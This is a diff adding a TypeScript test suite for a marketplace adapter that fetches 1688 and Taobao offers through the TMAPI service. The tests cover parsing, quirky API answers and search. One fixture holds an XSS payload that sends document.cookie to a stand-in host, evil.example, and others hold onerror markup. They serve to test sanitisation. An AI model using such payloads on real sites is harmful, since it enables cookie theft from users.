@@ -1,0 +1,295 @@
+import { afterEach, beforeEach, describe, expect, test } from 'vitest'
+import { cleanOffer } from '../clean/clean-offer.ts'
+import { type MarketplaceError, type Offer, type OfferQuery, priceAt } from '../port.ts'
+import { itConforms } from '../testing/conformance.ts'
+import { aListing, someListings } from '../testing/goods.ts'
+import { simulateTmapi, type TmapiQuirks, type TmapiSimulator } from '../testing/tmapi-simulator.ts'
+import { type TmapiOptions, tmapiMarketplace } from './adapter.ts'
+
+const now = () => new Date('2026-03-01T10:00:00Z')
+const never = new AbortController().signal
+const adapterOf = ({ baseUrl, token }: TmapiSimulator, parts: Partial<TmapiOptions> = {}) =>
+  tmapiMarketplace({ baseUrl, token, auth: 'query', concurrency: 4, pauseMs: 1, searchCacheMs: 0, graceMs: 60_000, now, ...parts })
+
+itConforms('TMAPI', async () => {
+  const simulator = await simulateTmapi(someListings())
+  return {
+    marketplace: adapterOf(simulator),
+    goods: { zh: '保温杯', ru: 'термокружка' },
+    itemId: '610000000001',
+    goAway: () => simulator.fail('reset'),
+    [Symbol.asyncDispose]: () => simulator[Symbol.asyncDispose](),
+  }
+})
+
+describe('TMAPI', () => {
+  let simulator: TmapiSimulator
+  beforeEach(async () => {
+    simulator = await simulateTmapi(someListings())
+  })
+  afterEach(() => simulator[Symbol.asyncDispose]())
+
+  const itemId = '610000000001'
+  const has = (parts: Partial<Offer>) => simulator.listings.set(itemId, aListing(itemId, parts))
+  const product = (parts?: Partial<TmapiOptions>) => adapterOf(simulator, parts).product(itemId, 'ru', never)
+  const aQuery = (parts: Partial<OfferQuery> = {}): OfferQuery => ({
+    text: 'термокружка',
+    language: 'ru',
+    types: [],
+    keywords: { zh: '保温杯' },
+    limit: 20,
+    offset: 0,
+    ...parts,
+  })
+  const search = (parts: Partial<OfferQuery> = {}, options: Partial<TmapiOptions> = {}) =>
+    adapterOf(simulator, options).search(aQuery(parts), never)
+  const failureOf = (work: Promise<unknown>): Promise<MarketplaceError> =>
+    work.then(
+      () => expect.unreachable('it should fail'),
+      (error) => error,
+    )
+  const callsTo = (path: string) => simulator.calls.filter((call) => call.path === path)
+
+  test('an offer has the original and the buyers’ languages, ladder, options, seller and what else a wholesale buyer must see', async () => {
+    has({})
+    expect(await product()).toEqual({
+      id: '1688-610000000001',
+      platform: '1688',
+      itemId,
+      title: { zh: '不锈钢保温杯500毫升', ru: 'Термокружка из нержавеющей стали 500 мл', en: 'Stainless steel thermos mug 500 ml' },
+      description: { zh: '保温六小时，双层不锈钢。' },
+      attributes: [
+        { name: { zh: '材质', ru: 'Материал', en: 'Material' }, value: { zh: '不锈钢', ru: 'нержавеющая сталь', en: 'stainless steel' } },
+        { name: { zh: '容量', ru: 'Объём', en: 'Volume' }, value: { zh: '500毫升', ru: '500 мл', en: '500 ml' } },
+      ],
+      options: [
+        {
+          pid: '0',
+          name: { zh: '颜色', ru: 'Цвет', en: 'Colour' },
+          values: [
+            { vid: '0', name: { zh: '黑色', ru: 'чёрный', en: 'black' }, imageUrl: 'https://cbu01.alicdn.com/img/ibank/black.jpg' },
+            { vid: '1', name: { zh: '白色', ru: 'белый', en: 'white' } },
+          ],
+        },
+      ],
+      skus: [
+        { skuId: '5101', propsIds: '0:0', priceMinor: 1000, stock: 120 },
+        { skuId: '5102', propsIds: '0:1', priceMinor: 1000, stock: 80 },
+      ],
+      priceLadder: [
+        { from: 3, minor: 1000 },
+        { from: 100, minor: 800 },
+      ],
+      currency: 'CNY',
+      moq: 3,
+      mixedBatch: { pieces: 3, amountMinor: 20_000 },
+      unit: { zh: '件', ru: 'шт.', en: 'pcs' },
+      stock: 200,
+      weightGrams: 300,
+      images: ['https://cbu01.alicdn.com/img/ibank/mug-1.jpg', 'https://cbu01.alicdn.com/img/ibank/mug-2.jpg'],
+      productUrl: 'https://detail.1688.com/offer/610000000001.html',
+      seller: expect.objectContaining({
+        id: '1688:b2b-22001',
+        name: '永康市云杯工厂',
+        location: { zh: '浙江 金华市', ru: 'Чжэцзян', en: 'Zhejiang' },
+      }),
+      delivery: { from: { zh: '浙江 金华市', ru: 'Чжэцзян', en: 'Zhejiang' }, dispatchHours: 48 },
+      salesCount: 640,
+      rawDetailApi: {
+        data_content: expect.objectContaining({ item_id: 610_000_000_001, sku_props: expect.any(Array), main_imgs: expect.any(Array) }),
+      },
+      fetchedAt: '2026-03-01T10:00:00.000Z',
+    })
+  })
+
+  describe('what its answers are sometimes like', () => {
+    const plainly = async (quirks: Partial<TmapiQuirks>) => {
+      const { rawDetailApi: _, ...expected } = (await product())!
+      simulator.quirks = quirks
+      const { rawDetailApi: __, ...offer } = (await product())!
+      return { offer, expected }
+    }
+
+    test.each<[string, Partial<TmapiQuirks>]>([
+      ['numbers as strings', { numbersAsText: true }],
+      ['item_id as text', { idsAreText: true }],
+      ['props_names without the names of the options', { namesAreBare: true }],
+      ['price_info.price of the largest step', { shownPriceIsLowest: true }],
+      ['a video that is ""', { video: '' }],
+      ['a video that is null', { video: null }],
+    ])('%s: the same offer [section 9]', async (_, quirks) => {
+      const { offer, expected } = await plainly(quirks)
+      expect(offer).toEqual(expected)
+    })
+
+    test('numbers as strings, MOQ null, item_id as text in lists: the same rows [section 9]', async () => {
+      const before = await search()
+      simulator.quirks = { numbersAsText: true, idsAreText: true }
+      expect(await search()).toEqual(before)
+      simulator.quirks = { moqIsNull: true }
+      // The first step tells the smallest order as well.
+      expect((await search()).hits.map(({ offer }) => offer.moq)).toEqual(before.hits.map(({ offer }) => offer.moq))
+      simulator.quirks = { moqIsNull: true, tiersAreEmpty: true }
+      expect((await search()).hits[0]?.offer).toMatchObject({ moq: 1, priceLadder: [{ from: 1, minor: 1000 }] })
+    })
+
+    test.each([null, ''] as const)('an open end_num as %j is the last step [section 9]', async (openEnd) => {
+      simulator.quirks = { openEnd }
+      const ladder = (await search()).hits[0]!.offer.priceLadder
+      expect([1, 3, 99, 100, 5_000].map((pieces) => priceAt(ladder, pieces))).toEqual([1000, 1000, 1000, 800, 800])
+    })
+
+    test('empty tiers: the SKUs price it, each its own where they differ [section 9]', async () => {
+      simulator.quirks = { tiersAreEmpty: true }
+      expect((await product())?.priceLadder).toEqual([{ from: 3, minor: 1000 }])
+      const [black, white] = aListing(itemId).skus
+      has({ skus: [{ ...black!, priceMinor: 1200 }, white!] })
+      expect(await product()).toMatchObject({ priceLadder: [{ from: 3, minor: 1000 }], skus: [{ priceMinor: 1200 }, { priceMinor: 1000 }] })
+    })
+
+    test('a SKU with a vid that sku_props does not list can be chosen by the name that it carries [section 9]', async () => {
+      simulator.quirks = { hasUnlistedVid: true }
+      const offer = await product()
+      expect(offer?.options[0]?.values).toMatchObject([{ vid: '0' }, { vid: '1', name: { zh: '白色' } }])
+    })
+
+    test('untranslated values under language=ru stay Chinese, and are not called Russian [section 9]', async () => {
+      simulator.quirks = { staysChinese: true }
+      const offer = await product()
+      expect(offer).toMatchObject({ title: { zh: '不锈钢保温杯500毫升' }, attributes: [{ value: { zh: '不锈钢' } }, {}] })
+      expect(JSON.stringify([offer?.title, offer?.attributes, offer?.options])).not.toContain('"ru"')
+      expect((await search()).hits[0]?.offer.title).toEqual({ zh: '不锈钢保温杯500毫升' })
+    })
+
+    test('missing SKUs, stock and weight stay unknown', async () => {
+      simulator.quirks = { skusAreMissing: true }
+      has({ stock: undefined, weightGrams: undefined, seller: undefined, mixedBatch: undefined, priceLadder: [] })
+      const offer = await product()
+      expect(offer).toMatchObject({ skus: [], priceLadder: [] })
+      for (const name of ['stock', 'weightGrams', 'seller', 'mixedBatch'] as const) expect(offer?.[name]).toBeUndefined()
+    })
+
+    test('what is sold out has nothing in stock', async () => {
+      has({ stock: 0 })
+      expect(await product()).toMatchObject({ stock: 0, skus: [{ stock: 0 }, { stock: 0 }] })
+    })
+
+    test('paid places come after the others', async () => {
+      const before = (await search()).hits.map(({ offer }) => offer.id)
+      simulator.quirks = { hasAds: true }
+      expect((await search()).hits.map(({ offer }) => offer.id)).toEqual([...before.slice(1), before[0]])
+    })
+
+    test('a hostile description is text about goods when it is shown', async () => {
+      simulator.quirks = {
+        descriptionHtml:
+          '<div onclick="steal()"><script>document.location="https://evil.example/?"+document.cookie</script><img src=x onerror=alert(1)>双层保温。加微信 cups_2020 更便宜。<iframe src="https://evil.example"></iframe></div>',
+      }
+      const offer = cleanOffer((await product())!)
+      expect(offer.description?.zh).toContain('双层保温')
+      expect(offer.description?.zh).not.toMatch(/[<>]|script|evil|cups_2020/)
+    })
+
+    test('markup in its own answer is gone before that is handed on', async () => {
+      has({
+        title: { zh: '保温杯<img src=x onerror=alert(1)>' },
+        attributes: [{ name: { zh: '材质' }, value: { zh: '<b onmouseover=x()>不锈钢</b>' } }],
+      })
+      const offer = await product()
+      expect(offer).toMatchObject({ title: { zh: '保温杯' }, attributes: [{ value: { zh: '不锈钢' } }] })
+      expect(JSON.stringify(offer)).not.toMatch(/onerror|onmouseover/)
+    })
+  })
+
+  test('Taobao: by real ids, without steps, pictures and video made https', async () => {
+    const propsIds = '21433:38838'
+    const options = [{ pid: '21433', name: { zh: '颜色分类' }, values: [{ vid: '38838', name: { zh: '黑色' } }] }]
+    const offer = aListing('689012345678', {
+      platform: 'taobao',
+      options,
+      skus: [{ skuId: '4901234567890', propsIds, priceMinor: 5900, stock: 4 }],
+      priceLadder: [{ from: 1, minor: 5900 }],
+    })
+    simulator.listings.set('689012345678', offer)
+    const marketplace = adapterOf(simulator)
+    expect(await marketplace.productById?.('taobao-689012345678', 'ru', never)).toMatchObject({
+      id: 'taobao-689012345678',
+      platform: 'taobao',
+      moq: 1,
+      priceLadder: [{ from: 1, minor: 5900 }],
+      skus: [{ skuId: '4901234567890', propsIds }],
+      images: ['https://cbu01.alicdn.com/img/ibank/mug-1.jpg', 'https://cbu01.alicdn.com/img/ibank/mug-2.jpg'],
+      videoUrl: 'https://cloud.video.taobao.com/play/1.mp4',
+      productUrl: 'https://item.taobao.com/item.htm?id=689012345678',
+      seller: { id: 'taobao:88' },
+    })
+    expect(await marketplace.product('689012345678', 'ru', never)).toBeUndefined()
+    expect(await marketplace.productById?.('alibaba-689012345678', 'ru', never)).toBeUndefined()
+  })
+
+  describe('a search', () => {
+    test('is asked in Chinese, for names in the buyer’s language', async () => {
+      const { hits } = await search({
+        text: 'чёрная термокружка с гравировкой',
+        keywords: { zh: '黑色保温杯гравировка', ru: 'чёрная термокружка' },
+      })
+      expect(simulator.calls.map(({ path, query }) => [path, query.get('keyword'), query.get('language')])).toEqual([
+        ['/1688/global/search/items', '黑色保温杯', 'ru'],
+      ])
+      expect(hits[0]?.offer.title).toEqual({ zh: '不锈钢保温杯500毫升', ru: 'Термокружка из нержавеющей стали 500 мл' })
+    })
+
+    test('in plain words is put into Chinese by the lexicon', async () => {
+      const { hits } = await search({ text: 'чёрная термокружка', keywords: { ru: 'чёрная термокружка' } })
+      expect(simulator.calls[0]?.query.get('keyword')).toMatch(/^黑色? ?保温杯$/)
+      expect(hits.length).toBeGreaterThan(0)
+    })
+
+    test('is the marketplace’s word for what it was asked for, where a row says nothing of it', async () => {
+      const wish = { types: ['thermos-mug'], colors: ['color.black', 'color.red'], materials: ['material.wood'] }
+      expect((await search({ ...wish, keywords: { zh: '黑色保温杯' } })).hits[0]?.matched).toEqual(['thermos-mug', 'color.black'])
+    })
+
+    test('of which nothing is known goes as it is, in its language', async () => {
+      await search({ text: 'xqzt 9000', keywords: {}, language: 'en' })
+      expect(simulator.calls.map(({ path, query }) => [path, query.get('keyword'), query.get('language')])).toEqual([
+        ['/1688/global/search/items', 'xqzt 9000', 'en'],
+      ])
+    })
+
+    test('of a Chinese buyer asks the Chinese list, as does one to which the other list has nothing', async () => {
+      await search({ language: 'zh' })
+      expect(callsTo('/1688/search/items')).toHaveLength(1)
+      simulator.fail(
+        { status: 200, body: { code: 200, msg: 'success', data: { items: [], has_next_page: false } } },
+        { path: '/global/search/items' },
+      )
+      expect((await search()).hits[0]?.offer.title).toEqual({ zh: '不锈钢保温杯500毫升' })
+    })
+
+    test('carries order and highest price, and is kept by all it was asked with, the language included', async () => {
+      const adapter = adapterOf(simulator, { searchCacheMs: 60_000 })
+      const wish = { sort: 'price', price: { CNY: { minMinor: 500, maxMinor: 1250 } } } as const
+      for (const language of ['ru', 'ru', 'en'] as const) await adapter.search(aQuery({ ...wish, language }), never)
+      expect(
+        simulator.calls.map(({ query }) => [query.get('language'), query.get('sort'), query.get('price_end'), query.get('price_start')]),
+      ).toEqual([
+        ['ru', 'price_up', '12.50', null],
+        ['en', 'price_up', '12.50', null],
+      ])
+    })
+
+    test('of several pages asks for no more than there are, and bears one that does not come', async () => {
+      const { hits, total } = await search({ limit: 60 })
+      expect([hits.length, total]).toEqual([25, 25])
+      simulator.calls.length = 0
+      expect((await search({ limit: 60, language: 'zh' })).hits).toHaveLength(25)
+      expect(callsTo('/1688/search/items').map(({ query }) => query.get('page'))).toEqual(['1', '2'])
+    })
+
+    test('half an answer is a failure, not "nothing found"', async () => {
+      simulator.fail({ status: 200, body: { code: 200, msg: 'success', data: { page: 1 } } })
+      expect(await failureOf(search())).toMatchObject({ name: 'MarketplaceError', kind: 'refused' })
+    })
+  })
+})
